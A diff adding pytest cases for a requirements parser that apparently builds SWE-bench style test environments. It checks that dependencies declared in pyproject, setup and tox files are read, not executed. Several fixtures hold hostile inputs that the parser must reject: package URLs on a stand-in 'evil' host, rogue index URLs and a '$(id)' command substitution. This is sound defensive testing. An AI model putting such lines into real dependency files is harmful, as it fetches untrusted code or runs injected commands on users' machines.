@@ -18,8 +18,10 @@ from swe_parts import BASE, FIXED, write_tree
 from lmlab.errors import UserError
 from lmlab.methods.swebench.building.candidate import Candidate, Rejection, statement_of, version_in
 from lmlab.methods.swebench.building.collect import collect_archives, collect_git
+from lmlab.methods.swebench.building.declared import declared_requirements, required_environment
 from lmlab.methods.swebench.building.settings import CollectConfig, ValidateConfig
 from lmlab.methods.swebench.building.validate import validate
+from lmlab.methods.swebench.config import RequiredConfig
 from lmlab.methods.swebench.harness.control import control_source
 from lmlab.methods.swebench.harness.environment import Environments, EnvironmentSpec
 from lmlab.methods.swebench.harness.judge import Judge
@@ -257,3 +259,104 @@ def test_modules_that_run_their_own_tests_while_they_are_imported_can_be_control
     exec(control.source.replace("import calc", ""), names)  # noqa: S102 - of this test's own making
     with pytest.raises(AssertionError):
         names["test_a"]()
+
+
+@pytest.mark.parametrize(
+    ("files", "expected"),
+    [
+        (
+            {
+                "pyproject.toml": """
+[project]
+name = "My.Package"
+dependencies = ["attrs >= 22.1, < 25 ; python_version >= '3.8'", "typing_extensions"]
+[project.optional-dependencies]
+docs = ["sphinx"]
+test = ["pytest-mock>=3", "my-package[cli]", "mypy", "pytest<9"]
+cli = ["click[extra]"]
+"""
+            },
+            (
+                "attrs>=22.1,<25 ; python_version >= '3.8'",
+                "typing_extensions",
+                "pytest-mock>=3",
+                "click[extra]",
+                "pytest<9",
+            ),
+        ),
+        (
+            {
+                "pyproject.toml": """
+[project]
+name = "x"
+[dependency-groups]
+dev = [{include-group = "tests"}, "ruff"]
+tests = ["freezegun", {include-group = "loop"}]
+loop = [{include-group = "tests"}, "hypothesis"]
+"""
+            },
+            ("freezegun", "hypothesis"),
+        ),
+        (
+            {
+                "pyproject.toml": """
+[tool.poetry]
+name = "x"
+[tool.poetry.dependencies]
+python = "^3.9"
+rich = "^13.1"
+lxml = {version = "*", optional = true}
+[tool.poetry.group.dev.dependencies]
+responses = "~0.2"
+black = "*"
+"""
+            },
+            ("rich>=13.1", "responses>=0.2"),
+        ),
+        (
+            {
+                "setup.py": "import setuptools\nNEEDS = ['six']\nsetuptools.setup(name='x', install_requires=NEEDS,\n"
+                "    extras_require={'testing': ['mock'], 'docs': open('x')})\n",
+                "requirements-dev.txt": "never\n",
+            },
+            ("six", "mock"),
+        ),
+        (
+            {
+                "setup.cfg": "[metadata]\nname = x\n[options]\ninstall_requires =\n    six\n"
+                "[options.extras_require]\ntests =\n    nose2  # runner\n    pytz (>=2020)\n",
+            },
+            ("six", "nose2", "pytz>=2020"),
+        ),
+        (
+            {
+                "tox.ini": "[testenv]\ndeps =\n    py39: backport\n    webtest\n    -rrequirements/more.txt\n"
+                "    {[x]deps}\n",
+                "requirements/more.txt": "-r own.txt\n-r more.txt\nblinker==1.9 --hash=sha256:00\n--index-url http://evil\n",
+                "requirements/own.txt": "jinja2\n",
+            },
+            ("webtest", "jinja2", "blinker==1.9"),
+        ),
+        (
+            {
+                "test-requirements.txt": "git+https://evil.example/x\nx @ https://evil.example/x.whl\n-e .\n/etc/x\n"
+                "good ~= 1.4.2\n--index-url=http://evil\n$(id)\n"
+            },
+            ("good~=1.4.2",),
+        ),
+        ({"pyproject.toml": "[project\n", "setup.cfg": "x\n", "setup.py": "def (", "tox.ini": "["}, ()),
+        ({}, ()),
+    ],
+)
+def test_what_a_repository_declares_for_its_tests_is_read_and_not_run(
+    files: dict[str, str], expected: tuple[str, ...], tmp_path: Path
+) -> None:
+    write_tree(tmp_path, files)
+    assert declared_requirements(tmp_path) == expected
+
+
+def test_environments_hold_what_is_asked_for_and_what_is_declared(tmp_path: Path) -> None:
+    write_tree(tmp_path, {"requirements-test.txt": "mock\npytest<9\n"})
+    asked = RequiredConfig(requirements=("six", "mock"))
+    assert required_environment(asked, None).requirements == ("pytest", "six", "mock")
+    assert required_environment(asked, tmp_path).requirements == ("pytest", "six", "mock", "pytest<9")
